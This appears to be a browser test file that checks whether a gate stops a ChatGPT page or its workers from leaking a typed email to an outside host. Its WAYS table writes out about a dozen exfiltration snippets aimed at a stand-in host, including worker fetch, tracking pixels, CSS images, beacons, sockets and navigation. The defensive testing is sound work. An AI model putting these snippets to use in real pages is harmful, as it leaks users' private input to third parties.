/**
 * What a governed page or its workers send to somebody else: telemetry, images, links, forms, sockets. What counts is
 * what that somebody received, after the person has written a value into the composer, and without it.
 */
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { chatgpt } from '../../fixtures/sites/chatgpt/page/app.ts';
import { answerDialog } from '../answer-dialog.ts';
import { arrival } from '../arrival.ts';
import { browsersUnderTest } from '../drivers/browsers.ts';
import type { DriverPage } from '../drivers/driver.ts';
import { useBrowser } from '../use-browser.ts';

const ELSEWHERE = 'metrics.northwind.example';
const VALUE = 'jane.roe@acme-corp.com';

/** The page's own rules would stop much of this: here the gate has to. */
const OPEN = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'";

interface Way {
  name: string;
  cases: string;
  /** Source of statements that send the value to `there`, an address without a query. */
  send(there: string, value: string): string;
}

const inWorker = (source: string) =>
  `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(source)}], { type: 'text/javascript' })));`;
const element = (name: string, attributes: string) =>
  `document.body.append(Object.assign(document.createElement('${name}'), { ${attributes} }));`;
const query = (there: string, value: string) => `'${there}?v=${encodeURIComponent(value)}'`;
const json = (value: string) => JSON.stringify(JSON.stringify({ event: 'typed', value }));

const WAYS: Way[] = [
  {
    name: 'a worker’s fetch',
    cases: '[I47][B8]',
    send: (there, value) =>
      inWorker(`fetch('${there}', { method: 'POST', mode: 'no-cors', body: ${json(value)} }).catch(() => 0)`),
  },
  { name: 'an image', cases: '[I34]', send: (there, value) => `new Image().src = ${query(there, value)};` },
  {
    name: 'the path of an image',
    cases: '[I34]',
    send: (there, value) => `new Image().src = '${there}/${encodeURIComponent(value)}/pixel.gif';`,
  },
  {
    name: 'a style sheet’s image',
    cases: '[I34]',
    send: (there, value) =>
      `document.body.style.backgroundImage = 'url("' + ${query(there, value)} + '")'; document.body.offsetTop;`,
  },
  {
    name: 'a script’s address',
    cases: '[I34]',
    send: (there, value) => element('script', `src: ${query(there, value)}`),
  },
  {
    name: 'a prefetch',
    cases: '[I34]',
    send: (there, value) =>
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: ${query(there, value)} }));`,
  },
  {
    name: 'a frame’s address',
    cases: '[I34]',
    send: (there, value) => element('iframe', `src: ${query(there, value)}`),
  },
  {
    name: 'a beacon of a fresh frame',
    cases: '[I30][I34]',
    send: (there, value) =>
      `const frame = document.createElement('iframe'); frame.srcdoc = '<p></p>'; document.body.append(frame);
       frame.contentWindow.navigator.sendBeacon('${there}', ${json(value)});`,
  },
  {
    name: 'an image in a sandboxed frame, which has no origin',
    cases: '[I54]',
    send: (there, value) => element('iframe', `sandbox: '', srcdoc: '<img src="' + ${query(there, value)} + '">'`),
  },
  {
    name: 'a socket of a worker, by its address',
    cases: '[I34]',
    send: (there, value) => inWorker(`new WebSocket(${query(there.replace('https', 'wss'), value)})`),
  },
  {
    name: 'EventSource of a worker',
    cases: '[I34]',
    send: (there, value) => inWorker(`new EventSource(${query(there, value)})`),
  },
  {
    name: 'leaving the page by its address',
    cases: '[I34]',
    send: (there, value) => `location.href = ${query(there, value)};`,
  },
  {
    name: 'leaving the page by a link',
    cases: '[I34]',
    send: (there, value) => `Object.assign(document.createElement('a'), { href: ${query(there, value)} }).click();`,
  },
];
/** Sockets of workers are never opened, whatever they carry. */
const NEVER = new Set(['a socket of a worker, by its address']);

describe.each(browsersUnderTest())('in %s', (browser) => {
  let page: DriverPage;
  let turn = 0;

  const world = useBrowser(browser, { apps: [{ ...chatgpt, csp: OPEN }], otherHosts: [ELSEWHERE] });
  beforeAll(async () => {
    // The first page after an install waits for the admin's settings; the tests are not about that.
    const first = await world.driver.open('https://chatgpt.com/');
    await first.evaluate(`fetch('/backend-api/me?x=1', { method: 'POST', body: '{}' }).then(() => 0)`);
    await first.close();
  });
  beforeEach(async () => {
    page = await world.driver.open('https://chatgpt.com/');
    await page.type('#prompt-textarea', `please write to ${VALUE}`);
    await page.press('Enter');
    await answerDialog(page, 'Edit text');
    // The page would put what was not sent into the next test's composer.
    await page.evaluate('localStorage.clear()');
    turn += 1;
    world.server.clear();
  });
  afterEach(() => page?.close());

  const arrived = (path: string) =>
    world.server.requests().filter(({ host, url }) => host === ELSEWHERE && new URL(url).pathname.startsWith(path));

  it.each(WAYS)('$cases $name does not carry away what was entered, and works without it', async ({ name, send }) => {
    const [guilty, harmless] = [`/${turn}/guilty`, `/${turn}/harmless`];
    // In a task of its own: some ways leave the page under the driver's feet.
    const attempt = (tab: DriverPage, path: string, value: string) =>
      tab.evaluate(`void setTimeout(() => { ${send(`https://${ELSEWHERE}${path}`, value)} })`);
    await attempt(page, guilty, VALUE);
    const twin = await world.driver.open('https://chatgpt.com/');
    if (NEVER.has(name)) {
      await twin.evaluate(`fetch('/backend-api/me', { method: 'POST', body: '{}' }).then(() => 0)`);
    } else {
      await attempt(twin, harmless, 'click');
      await arrival('harmless twin', () => arrived(harmless));
    }
    await twin.close();
    expect(arrived(guilty).map(({ url }) => url)).toEqual([]);
    expect(world.server.sinkContains(VALUE).map(({ url }) => url)).toEqual([]);
  });
});
